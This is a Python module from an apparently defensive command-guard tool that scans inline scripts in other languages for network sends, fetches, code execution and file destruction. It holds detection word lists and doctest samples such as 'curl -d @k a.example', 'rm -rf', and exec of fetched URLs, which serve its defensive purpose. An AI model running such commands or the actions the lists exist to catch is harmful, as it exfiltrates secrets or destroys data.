"""One-liners and short scripts of other languages, read by their words: what they read, whether they send, where to.

No language is parsed: string literals, names of the environment and names of networking modules are all that counts.
Limitations: names put together at run time.
"""
from __future__ import annotations

from guards import FETCHES, RUNS, SENDS
from guards._shell.flow import NOTHING, Arg, Flow, join, may_be_file, parted, without_text
from guards._shell.literals import (
    apart,
    given,
    identifiers,
    literals,
    named,
    put_in,
    secrets,
    shown,
    spelt,
    statements,
    undocumented,
    unset,
    words_of,
)
from guards._shell.programs import SENDERS, UNMISTAKABLE
from guards._shell.programs.arguments import options
from guards._shell.programs.filters import decoded
from guards._shell.programs.wrappers import remote
from guards._shell.targets import targets
from guards._text import table
from guards._text.regex import pattern

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterable

    from guards._shell._types import Machine
    from guards._types import Kind

# Interpreters, and the letters of the options whose value is code.
INTERPRETERS = table("""
    py python python2 python3 pypy pypy3 ipython pwsh powershell: c
    node nodejs bun: ep
    tclsh awk gawk mawk nawk:
    deno tsx ts-node ruby lua luajit osascript groovy Rscript julia elixir scala: e
    perl: eE
    php: r
    """)
EVALUATES = frozenset("--eval --print -Command -command --execute -EncodedCommand".split())
AWKS = frozenset("awk gawk mawk nawk".split())
BRACKETS = ("powershell", "pwsh")
NETWORK = tuple("""requests, 'https', "https", "http", "net", "dns", 'http', 'net', 'dns', node:http, node:net, \
urllib, http.client, httpx, aiohttp, socket, smtplib, ftplib, paramiko, boto3, telnetlib, fetch(, axios, \
http.request, https.request, http.get, https.get, net.connect, net.socket, dgram, dns., websocket, xmlhttprequest, \
got(, needle, superagent, lwp::, http::tiny, io::socket, net::http, open-uri, uri.open, uri.parse, tcpsocket, \
faraday, net::smtp, file_get_contents('http, file_get_contents("http, fsockopen, curl_exec, curl_init, guzzle, \
/inet/, invoke-webrequest, invoke-restmethod, webclient, iwr , irm , socket., pycurl, deno.connect, bun.connect, \
sendbeacon, getaddrinfo, gethostbyname, resolver, use io::socket, httpclient, java.net, httpc:, gen_tcp, net/http, \
reqwest""".split(", "))
SENDING = tuple("""post, put(, .put, patch, send, upload, stor, data=, body:, write(, method:, json=, fputs, \
fwrite, print socket, puts""".split(", "))
RUNNING = tuple("""subprocess, popen, child_process, exec, system, spawn, shell_exec, passthru, `, \
qx, deno.command, do shell script, start-process, getline, |&, invoke-expression, command::new, processbuilder, \
process.start, process.run, process()""".split(", "))
ROUNDS, STATEMENTS = 3, 400     # rounds over names that are given one another, statements of one text
HOSTS = 20      # hosts of one text of code
# What code says that changes files; which file, its literals say.
WRITING = tuple("""write 'w' "w" 'a' "a" 'wb' "wb" 'w+' "w+" unlink rmtree remove rename replace( truncate dump( rmdir
    shutil rmsync copyfile file_put_contents symlink chmod delete""".split())


def interpreter(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """python -c, node -e, perl -e, awk and the like; a script file's text where it is known."""
    if name not in INTERPRETERS:        # python3.12
        name = name.rstrip("0123456789.")
    if name in AWKS:
        return awk(machine, name, args, stdin)
    letters = INTERPRETERS[name]
    taken_up = " ".join(arg.text[2:] for arg in args if arg.text[:2] in ("-M", "-m", "-r") and len(arg.text) > 3)
    i, verbs = 0, ("eval", "run") if name in ("deno", "bun") else ()
    while i < len(args):
        text, rest = args[i].text, args[i + 1:]
        if text in EVALUATES or text in verbs[:1] or (
                text[:1] == "-" != text[1:2] and text[-1] in letters and len(text) < 7):
            if not rest:
                return NOTHING
            remote(machine, rest[0].flow, name)
            said = rest[0].text + (f"\nuse {taken_up};" if taken_up else "")      # perl -MLWP::Simple
            if name in BRACKETS:        # its words are commands, too
                from guards._shell.powershell import in_sh

                machine.text(in_sh(said))
            return code(machine, name, said, rest[1:], join(stdin, rest[0].flow))
        if text not in verbs and (not text.startswith("-") or text == "-"):
            break
        if text == "-m" and rest:
            return module(machine, rest, stdin)
        i += 2 if text in ("-W", "-X", "-I", "-r", "--require", "--import", "-d") else 1
    if i < len(args) and args[i].text != "-":
        return script_file(machine, name, args[i:], stdin)
    remote(machine, stdin, name)
    return code(machine, name, stdin.text, args[i + 1:], stdin) if stdin.text else stdin


def script_file(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """The first argument is a script, the others are given to it."""
    path = args[0].text
    machine.found.scripts.append(path)
    remote(machine, args[0].flow, name)        # node <(curl ...)
    for arg in args[1:]:
        if not arg.text.startswith("-"):
            machine.touch("may", arg.text, name)
    if text := machine.script(path):
        return code(machine, name, text, args[1:], stdin)
    machine.unread("not readable", path)
    return join(stdin, machine.arguments(args[1:]))


# Modules that are programs by another name.
MODULES = {"awscli": "aws", "httpie": "http", "pip": "pip", "twine": "twine", "webbrowser": "open"}
# Modules that work on this machine alone.
LOCAL_MODULES = frozenset("""build compileall coverage doctest ensurepip flake8 json.tool mypy nox pdb py_compile
    pylint pytest ruff tests timeit tox unittest venv virtualenv zipapp""".split())


def module(machine: Machine, args: list[Arg], stdin: Flow) -> Flow:
    """`python -m MODULE`: the program of that name; a module of no row is an unknown program."""
    name = args[0].text
    if name == "http.server":       # opens a folder to whoever asks
        flow = machine.arguments(args[1:], whole=True)
        if flow.level:
            machine.emit(SENDS, "python -m http.server", "python -m http.server", "", flow)
        return NOTHING
    if name in LOCAL_MODULES:
        return join(stdin, machine.arguments(args[1:]))
    return machine.call([Arg(MODULES.get(name, name), args[0].flow), *args[1:]], stdin)


def awk(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """awk reads its files behind the program's text; in that text it may write files, run commands and open
    `/inet/`.
    """
    found, rest = options(args, "awk")
    if any(f == "-f" for f, _ in found):
        return join(stdin, machine.arguments(rest))
    flow = join(stdin, machine.arguments(rest[1:]), *(v.flow for _, v in found if v))
    if rest and flow.level and ">" in rest[0].text:      # print > "file"
        for string in literals(rest[0].text):
            if may_be_file(string):
                machine.write(string, without_text(flow))
    if rest and any(w in rest[0].text for w in ("/inet/", "system", "getline", "|")):
        text = rest[0].text
        if "|" in text:         # print | "command", "command" | getline
            before = len(machine.found.effects)
            for string in literals(text):
                machine.text(string, flow)
            machine.attach(before, flow)
        return code(machine, name, text, [], flow)
    return flow


def code(machine: Machine, name: str, text: str, args: list[Arg], stdin: Flow) -> Flow:
    """Takes in a text of another language; what it may print."""
    if len(text) > 200_000:
        machine.unread("bound hit", "characters of code")
        text = text[:200_000]
    if name in BRACKETS:
        from guards._shell.powershell import in_quotes

        text = in_quotes(text)
    put = put_in(text)
    text = unset(undocumented(text if put == text else f"{text}\n{put}"))
    low, strings = text.lower(), literals(text)
    if name.endswith(("tclsh", ".tcl")):        # its texts need no quotes
        strings += "".join(" " if c in "[]{}();\"'" else c for c in text).split()[:2000]
    given = join(stdin, machine.arguments(args))
    flow = _taken_up(machine, name, text, low, strings, given)
    if any(word in low for word in WRITING):
        _written(machine, name, strings, flow)
    for how, path in targets(text, [arg.text for arg in args]):
        machine.touch(how, path, name)
    if told := spelt(text, low):
        flow = join(flow, Flow(text=told))
    if ("64" in low or "atob" in low) and machine.depth < 10:
        _hidden(machine, name, strings, stdin)
    if starts(low, strings, name.startswith(("py", "ipython")) or name.endswith(".py")):
        flow = _started(machine, text, low, strings, flow)
    if _says(low, [] if _says(low, strings, ("exec", "eval")) else strings, NETWORK) or (
            flow.level and name not in BRACKETS and any(
                "://" in one and " " not in one.strip() and not one.lower().startswith(WAYS_IN) for one in strings)):
        send(machine, name, low, strings, args, without_text(given if opens_only(low) else flow, text))
    return flow


def _taken_up(machine: Machine, name: str, text: str, low: str, strings: list[str], given: Flow) -> Flow:
    """What the code is given, and what it reads: files by their names or by two pieces of one, the environment."""
    flows = []
    for string in strings:
        if 2 < len(string) < 300 and " " not in string.strip() and "://" not in string:
            flow = machine.file(string)
            if flow.level or ("." in string[:-1] and "/" not in string[:1] and may_be_file(string)):
                flows.append(flow)
    words = pattern("(?i)env:(\\w+)").findall(text) if name in BRACKETS else identifiers(text)
    if names := secrets(low, strings, [*words, *strings]):
        flows.append(Flow(3, names))
    return join(given, *[f for f in flows if f.level or f.files])


def _written(machine: Machine, name: str, strings: list[str], flow: Flow) -> None:
    """Each file that code which writes names may be written, and hold what it took up."""
    for string in strings:
        if 1 < len(string) < 300 and " " not in string and ("/" in string or "." in string) and "://" not in string:
            if flow.level and may_be_file(string) and not machine.file(string).level:
                machine.write(string, without_text(flow))
            machine.touch("may", string, name)


def _hidden(machine: Machine, name: str, strings: list[str], stdin: Flow) -> None:
    """What stands encoded in a string may be code, or a command."""
    machine.depth += 1
    for string in strings:
        hidden = decoded("base64", string) if len(string) > 23 and " " not in string else ""
        if hidden.isprintable() and hidden:
            code(machine, name, hidden, [], stdin)
            machine.text(hidden, stdin)
    machine.depth -= 1


TELLS = frozenset("is are was were has have had must should cannot could would will isn't wasn't".split())


def _started(machine: Machine, text: str, low: str, strings: list[str], flow: Flow) -> Flow:
    """What the commands print that the code starts; what flows into the code leaves with them."""
    before = len(machine.found.effects)
    printed = [machine.text(lines, flow) for string in literals(text)
               if " " in string.strip() and len(string) < 2000 and not sentence(string) and (lines := commands(string))]
    flow = join(flow, *(without_text(p) for p in printed if p.level))
    machine.attach(before, flow)
    if "[" in low:
        for one in statements(text):
            runs(machine, [s for s in literals(one) if s and len(s) < 300], flow)
    return flow


def sentence(text: str) -> bool:
    """Does a text tell something: "input was empty", "Failed to load x"?  No program is called by a word that begins a
    sentence, or by a sign, unless it names one that sends; a command's second word is no such verb.

    >>> [sentence(text) for text in ("input was empty", "acmectl delete users", "Error in x.y", "Do curl -d x y")]
    [True, False, True, False]
    """
    first, second = (*text.split(None, 2), "", "")[:2]
    return second in TELLS or (first.endswith(",") and first[:-1].isalpha()) or ((
        not first.isascii() or (first.istitle() and first.isalpha())) and UNMISTAKABLE.isdisjoint(
        word.strip(QUOTES).lower() for word in text.split()))


QUOTES = "\"'`$()"
STARTS = ("$", "python", "ruby", "perl", "node", "php")


def commands(text: str) -> str:
    """The lines of a string that call a program of a row, or one by its path or a variable, or name one that sends
    anywhere: code that starts one tells people much besides.

    >>> commands("curl -d @k a.example"), commands("Host: {a.name}"), commands("r = a.get(x)"), commands("x; rm -rf y")
    ('curl -d @k a.example', '', '', 'x; rm -rf y')
    """
    from guards._shell.programs import HANDLERS
    from guards._shell.programs.effects import ROWS

    found: list[str] = []
    for line in text.replace("\\\n", " ").replace("\\n", "\n").split("\n"):
        first = (next((word for word in part.split() if "=" not in word[1:]), "")
                 for part in line.replace("|", ";").replace("&", ";").split(";"))
        if not UNMISTAKABLE.isdisjoint(word.strip(QUOTES) for word in line.split()) or any(
                "/" in name or name in HANDLERS or name in ROWS or name.startswith(STARTS)
                for name in (word.strip(QUOTES[:3]) for word in first)):
            found.append(line)
    return "\n".join(found)


def starts(low: str, strings: list[str], python: bool = False) -> bool:
    """Does code start a program?  Its words are code, or a name in quotes; in a sentence they say nothing, nor does a
    backtick in Python.

    >>> starts("getattr(os, 'system')(x)", ["system"]), starts("p = '^system:|go on'", ["^system:|go on"])
    (True, False)
    >>> starts("re.search('```', x)", ["```"], python=True), starts("x = `ls`", [])
    (False, True)
    """
    low = low.replace("systemexit", "")
    none = ("`" if python else "", "" if "system" in words_of(low) else "system")      # a filesystem
    return _says(low, strings, [word for word in RUNNING if word not in none])


def _says(low: str, strings: list[str], words: Iterable[str]) -> bool:
    """Does code hold one of these words, elsewhere than in a sentence or a text of lines?"""
    said = [word for word in words if word in low]
    for string in strings if said else ():
        text = string.lower()
        if (" " in text or "\\n" in text) and any(word in text for word in said):
            low = low.replace(text, "")
    return any(word in low for word in said)


# Addresses that are opened with a secret, not sent one: files, databases.
WAYS_IN = tuple("amqp file jdbc mongodb mysql postgres redis sqlite".split())


# Words of code that gives something away.
GIVING = tuple("post put( send ship upload push publish share deliver".split())


# Programs that destroy, or take back what the guards know, by the lists of words with which code starts them.
DESTROYERS = frozenset("dd git guardctl mkfs rm shred truncate unlink".split())


def runs(machine: Machine, words: list[str], flow: Flow) -> None:
    """subprocess.run(["curl", "-d", ...]): the literals from the first that is a program that sends or destroys."""
    for i, word in enumerate(words):
        if word.rpartition("/")[2] in SENDERS or word.rpartition("/")[2] in DESTROYERS:
            machine.call([Arg(w, flow if j else NOTHING) for j, w in enumerate(words[i:i + 20])], NOTHING)
            return


# Words of which one stands where more than an address is given to who opens it.
MORE = tuple("""headers auth cookie params data body json= json: post put( patch( send upload request( socket connect
    method base_url emit publish stream files""".split())
OPENERS = tuple("get urlopen fetch head urlretrieve".split())


def opens_only(low: str) -> bool:
    """Does code only open whole addresses that stand in it, and give nothing along?

    >>> opens_only("t = env['k']; s.get('https://a.example/x')"), opens_only("s.get('https://a.example/' + env['k'])")
    (True, False)
    """
    opened = [after.partition(")")[0].strip() for name in OPENERS for after in low.split(f"{name}(")[1:]]
    return bool(opened) and not any(word in low for word in MORE) and all(
        one[:1] in ("'", '"') and one[:1] == one[-1:] and one.count(one[:1]) == 2 for one in opened)


def send(machine: Machine, name: str, low: str, strings: list[str], args: list[Arg], flow: Flow) -> None:
    """Emits what a text of another language sends, or fetches, for each host in it (at most HOSTS)."""
    hosts = [s for s in [*strings, *(a.text for a in args)] if _address(s)]
    hosts += named(low, strings, GIVING if flow.files and flow.level else ())
    hosts += [s.split("/")[4] for s in strings if s.startswith("/inet/") and s.count("/") > 4]     # awk's own sockets
    if hosts and evaluates(name, low):
        machine.emit(RUNS, name, f"{name} of what it fetched", hosts[0], NOTHING)
    if not hosts and not flow.level:
        flow = without_text(flow)
    kind: Kind = SENDS if flow.level or flow.whole or any(word in low for word in SENDING) else FETCHES
    auth, left = parted(flow, [one for one in flow.names if one[:1] == "$" and shown(low, one[1:].lower())])
    # Code in the command itself that names no place may get it anywhere; of a script's nobody can tell.
    for host in dict.fromkeys(hosts[:HOSTS] or ([""] if name in INTERPRETERS else [])):
        to_people = "@" in host and "://" not in host and any("://" in one for one in hosts)
        machine.emit(kind, name, name, host, left, NOTHING if to_people else auth)


def _address(text: str) -> bool:
    """Is it an address: no pattern, no bare beginning, no model's name (`gpt://lite`)?"""
    scheme, found, rest = text.partition("://")
    return bool(found) and " " not in text.strip() and rest[:2].strip("$%{_[")[:1].isalnum() and (
        scheme in REACHED or not rest.replace("-", "").replace("/", "").isalnum())


REACHED = frozenset("http https ws wss tcp ftp s3 gs az r2 b2 oss hf".split())


# Names of interpreters by their beginnings, of files by their endings | what runs a text, in lower case.
EVALS = tuple((tuple(names.split()), tuple(words.split())) for names, _, words in (row.partition(" | ") for row in (
    "py ipython .py | exec( eval( compile( exec_module(",
    "node deno bun ts .js .mjs .cjs .ts | eval( function( runinthiscontext( runinnewcontext( runincontext( script( "
    "then(eval",
    "ruby .rb | eval( eval instance_eval( class_eval( load(",
    "perl .pl | eval eval( eval{",
    "php .php | eval( include include( require( assert(",
    "lua .lua | loadstring( load( dostring(",
    "pwsh powershell .ps1 | iex invoke-expression",
    "rscript julia groovy scala elixir .jl .groovy .scala | source( eval( include( evaluate( eval_string(")))


def evaluates(name: str, low: str) -> bool:
    """Does code in lower case run a text that it fetches: `exec(urlopen(...).read())`, `.then(eval)`?

    >>> [evaluates("python3", code) for code in ("exec(urllib.urlopen('https://x.example/a').read())",
    ...     "exec(open('a.py').read()); urllib.urlopen('https://x.example/a')")]
    [True, False]
    """
    words = next((row for names, row in EVALS if name.lower().startswith(names) or name.endswith(names)), ())
    if not any(word in low for word in words):
        return False
    fetched: set[str] = set()
    rows = [row for whole in statements(low)[:STATEMENTS] for row in apart(whole)]
    for _ in range(ROUNDS):
        for row in rows:
            if any(word in row for word in NETWORK) or not fetched.isdisjoint(identifiers(row)):
                if any(_called(row, word) for word in words):
                    return True
                imported = row.partition(" import ")[2] if " import " in row else ""
                fetched.update(given(row), imported.replace(",", " ").split())
    return False


def _called(row: str, word: str) -> bool:
    """Does a word stand in a statement, and is no piece of another: `retrieval(`, `evaluate`?"""
    head, found, rest = row.partition(word)
    whole = not (head[-1:].isalnum() or head[-1:] == "_") and (not word[-1:].isalpha() or not rest[:1].isalnum())
    return bool(found) and whole
